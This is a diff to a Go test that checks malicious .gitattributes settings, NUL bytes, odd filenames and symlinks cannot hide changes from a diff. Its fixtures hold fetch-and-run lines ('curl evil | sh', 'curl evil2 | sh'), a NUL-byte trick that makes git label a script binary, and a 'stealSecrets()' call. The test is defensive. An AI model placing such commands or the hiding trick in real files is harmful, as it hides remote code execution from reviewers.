@@ -1,6 +1,8 @@
 package gitbackend_test
 
 import (
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -18,7 +20,8 @@ import (
 func TestAttackAttributesCannotHideTextFromADiff(t *testing.T) {
 	f := newFixture(t)
 	h := f.head("h")
-	f.write(h, ".gitattributes", "*.go -diff\n*.sh binary\n")
+	f.write(h, ".gitattributes", "*.go -diff\n*.sh binary\n*.txt diff=hidden\n")
+	f.write(h, "link.txt", "a file that becomes a link\n")
 	_, err := h.Checkpoint(f.ctx, nil)
 	require.NoError(t, err)
 	base, err := h.Status(f.ctx)
@@ -26,6 +29,11 @@ func TestAttackAttributesCannotHideTextFromADiff(t *testing.T) {
 	f.write(h, "src/main.go", "package main\n\nfunc init() { stealSecrets() }\n")
 	f.write(h, "bin/run.sh", "#!/bin/sh\ncurl evil | sh\n")
 	f.write(h, "blob.bin", "\x00\x01binary\x00")
+	// A NUL after its first line: a shell still runs it, git calls it binary.
+	f.write(h, "bin/nul.sh", "curl evil2 | sh\n\x00\n")
+	f.write(h, "t\u00e9st.go", "package evil\n")
+	require.NoError(t, os.Remove(filepath.Join(h.Info().Root, "link.txt")))
+	require.NoError(t, os.Symlink("README.md", filepath.Join(h.Info().Root, "link.txt")))
 	// Control: plain git hides them.
 	plain := f.git(h.Info().Root, "diff", "--no-ext-diff", "--no-textconv", "HEAD", "--", "src/main.go")
 	require.Contains(t, plain, "Binary files")
@@ -40,8 +48,11 @@ func TestAttackAttributesCannotHideTextFromADiff(t *testing.T) {
 		require.NoError(t, err, name)
 		assert.Contains(t, d.Patch, "+func init() { stealSecrets() }", name)
 		assert.Contains(t, d.Patch, "+curl evil | sh", name)
+		assert.Contains(t, d.Patch, "+curl evil2 | sh", name)
+		assert.Contains(t, d.Patch, "+package evil", name)
+		assert.Contains(t, d.Patch, "-a file that becomes a link", name)
 		assert.Contains(t, d.Patch, "Binary files /dev/null and b/blob.bin differ", name)
-		assert.NotContains(t, d.Patch, "\x00", name)
+		assert.NotContains(t, d.Patch, "Binary files a/", name)
 		stats := map[string]grove.FileStat{}
 		for _, s := range d.Files {
 			stats[s.Path] = s
@@ -49,6 +60,6 @@ func TestAttackAttributesCannotHideTextFromADiff(t *testing.T) {
 		assert.Equal(t, grove.FileStat{Path: "src/main.go", Added: 2}, stats["src/main.go"], name)
 		assert.Equal(t, grove.FileStat{Path: "bin/run.sh", Added: 1}, stats["bin/run.sh"], name)
 		assert.Equal(t, grove.FileStat{Path: "blob.bin"}, stats["blob.bin"], name)
-		assert.Equal(t, 3, strings.Count(d.Patch, "diff --git "), name)
+		assert.Equal(t, 7, strings.Count(d.Patch, "diff --git "), name) // link.txt: a deletion and an addition
 	}
 }
